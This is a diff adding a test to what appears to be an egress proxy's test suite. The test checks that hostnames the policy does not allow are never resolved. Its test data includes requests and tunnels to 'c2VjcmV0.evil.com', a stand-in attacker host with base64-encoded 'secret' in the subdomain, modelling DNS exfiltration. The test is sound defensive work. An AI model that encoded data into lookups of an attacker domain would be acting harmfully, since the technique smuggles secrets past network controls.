@@ -156,6 +156,20 @@ describe('what is refused, noted, and never dialled', () => {
     expect(proxy.report()).toMatchObject({ connections: 0, refused: [{ count: 1 }] });
   });
 
+  it('a name that the policy does not hold is not even resolved, so no name carries data out', async () => {
+    const resolved: string[] = [];
+    const resolve = async (host: string) => {
+      resolved.push(host);
+      return [{ address: '10.0.0.1', family: 4 }];
+    };
+    await open({ addresses: { resolve, isAllowed: isPublicAddress } });
+    await get('http://c2VjcmV0.evil.com/');
+    (await tunnel('c2VjcmV0.evil.com:443')).socket.destroy();
+    (await tunnel('c2VjcmV0.evil.com:80')).socket.destroy();
+    await get('http://FILES.example.org/', 'files.example.org');
+    expect(resolved).toEqual(['files.example.org']);
+  });
+
   it('two hosts in one head', async () => {
     await open();
     const answer = await say(
